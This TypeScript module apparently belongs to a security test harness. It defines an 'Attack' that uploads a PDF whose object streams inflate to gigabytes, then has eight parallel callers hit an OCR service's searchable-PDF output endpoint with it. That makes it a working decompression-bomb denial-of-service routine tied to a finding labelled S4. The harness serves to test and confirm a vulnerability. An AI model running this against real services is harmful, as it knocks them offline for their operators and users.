import { randomUUID } from 'node:crypto';
import type { OcrAnswer } from '../../house/answers.ts';
import { objectStreamBomb } from '../../house/object-stream-bomb.ts';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { onceFor } from './once-for.ts';

const DOCUMENT = objectStreamBomb();

/** Read as any page is; who writes its text into it reads all its objects, too. */
const reading = onceFor(async ({ funded: { caller } }) => {
  const input = { type: 'base64', data_base64: DOCUMENT.toString('base64') };
  const wish = { engine: 'pdf-text', input, page_count: 1, include: ['words'] };
  const { status, body } = await caller.ocr<OcrAnswer>(wish, {
    key: randomUUID(),
    signal: AbortSignal.timeout(60_000),
  });
  if (body?.request_id === undefined) throw new Error(`the document was answered ${status}`);
  return body.request_id;
});

export const inflatingPdfs: Attack = {
  name: 'eight callers of a searchable PDF of a file whose objects inflate to gigabytes',
  finding: 'S4',
  prepare: reading,
  run: async (target, signal) => {
    const path = `/v1/ocr/${await reading(target)}/output?format=pdf&text_layer=all`;
    const headers = { 'content-type': 'application/pdf' };
    await persist(signal, { width: 8, pauseMs: 100 }, () =>
      target.funded.caller.call('POST', path, { body: DOCUMENT, headers, signal }),
    );
  },
};
